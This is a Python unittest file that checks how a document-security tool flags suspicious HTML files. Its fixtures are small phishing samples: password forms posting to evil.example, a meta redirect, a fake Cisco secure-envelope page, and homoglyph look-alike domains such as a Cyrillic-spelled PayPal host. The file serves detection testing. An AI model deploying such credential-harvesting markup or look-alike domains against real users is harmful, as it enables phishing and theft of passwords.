#!/usr/bin/python3
# SPDX-FileCopyrightText: The securedoc authors
# SPDX-License-Identifier: Apache-2.0
"""Fakes, look-alikes and the incumbent's envelopes: what `inspect`, `open` and `doctor` say of them, and that they advise nobody to open one
somewhere else."""

import sys
import unittest
from pathlib import Path

from cli_fixture import Base, fixture, json_lines

VECTORS = Path(__file__).resolve().parents[1] / "vectors" / "envelope"
sys.path.insert(0, str(VECTORS))
import sealing  # noqa: E402

FIELD = "<input type=pass&#119;ord>"


class StrangerFilesTest(Base):
    def written(self, person, content, name="letter.html"):
        path = person.home / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    def vector(self, person, name):
        fields, data = sealing_file(VECTORS / f"{name}.txt")
        return fields, self.written(person, data, f"{name}.html")

    def said(self, person, verb, path):
        done = person.run(verb, path)
        return (done.stdout + done.stderr).decode()

    def test_words_fit_the_file(self):
        person = self.person(registered=False)
        for content, sentence in (
                (f"<title>Secure message</title><form action=https://evil.example/x>{FIELD}</form>", "imitates a secure message"),
                (f"<title>News</title>{FIELD}", "it asks for a password"),
                ("<title>News</title><meta http-equiv=refresh content=0;https://evil.example/>", "it leads to a page elsewhere")):
            path = self.written(person, content)
            for verb in ("inspect", "open"):
                report = self.expect(11, person.run(verb, "--json", path), "SuspiciousFile")
                self.assertIn(sentence, report["error"]["message"])
                self.assertEqual("imitates" in self.said(person, verb, path), "imitates" in sentence)
            self.assertIn(sentence, self.said(person, "doctor", path))

    def test_every_target_is_named(self):
        person = self.person(registered=False)
        path = self.written(person, "<title>Secure Registered Envelope</title><base href=https://evil.example/a/b>"
                            f"<form action=https://res.cisco.com/envelopeopener/x>{FIELD}<button formaction=login.php></form>"
                            "<form action=//m\u00fcller.example:8443/></form><script>fetch('https://p\u0430ypal.example/')</script>")
        report = self.expect(11, person.run("inspect", "--json", path), "SuspiciousFile")
        values = {signal["value"] for signal in report["signals"]}
        expected = {"https://res.cisco.com/envelopeopener/x", "https://evil.example/a/login.php",
                    "https://xn--mller-kva.example:8443/", "https://xn--pypal-4ve.example/"}
        self.assertLessEqual(expected, values)
        said = self.said(person, "inspect", path)
        for address in expected:
            self.assertIn(address, said)

    def test_nobody_is_sent_elsewhere(self):
        person = self.person(registered=False)
        for name in ("cisco_form", "cisco_below_host", "cisco_open_online"):
            _, path = self.vector(person, name)
            report = self.expect(10, person.run("inspect", "--json", path), "NotAnEnvelope")
            self.assertEqual(report["kind"], "cisco_registered")
            for verb in ("inspect", "open", "doctor"):
                said = self.said(person, verb, path)
                self.assertIn("can neither open it nor tell whether it is genuine", said)
                self.assertIn("res.cisco.com", said)
                self.assertNotIn("browser", said.replace("program of its own in your browser", ""))

    def test_hosts_are_told_apart(self):
        person = self.person(registered=False)
        for issuer, shown in (("https://xn--hspital-9ig.org", "xn--hspital-9ig.org"), ("https://keys.example.org:8443", "keys.example.org:8443")):
            path = self.written(person, sealing.Envelope(claims={"iss": issuer}).file())
            for verb in ("inspect", "open", "doctor"):
                said = self.said(person, verb, path)
                self.assertRegex(said, rf"{shown}\b")
                self.assertTrue(said.isascii() or "spital.org" not in said, said)

    def test_second_issuer_of_the_same_name(self):
        person = self.person()
        with fixture.Service(self.folder / "other", organisation="KLINIK  Gru\u0308newald!") as other:
            added = person.run("trust", "add", other.issuer)
            self.assertEqual(added.returncode, 0, added.stderr)
            self.assertIn(self.service.issuer.split("//")[1], added.stderr.decode())
            path = self.envelope(person)
            report = json_lines(person.must("inspect", "--json", path))[0]
            self.assertEqual((report["namesake"], report["verification"]), (other.issuer, "verified"))
            self.assertIn("a sender of the same name", self.said(person, "inspect", path))
            person.must("trust", "remove", other.issuer)
            self.assertIsNone(json_lines(person.must("inspect", "--json", path))[0]["namesake"])


def sealing_file(path):
    """A vector's fields and its file."""
    from vector_files import parse
    return parse(path.read_bytes())


if __name__ == "__main__":
    unittest.main()
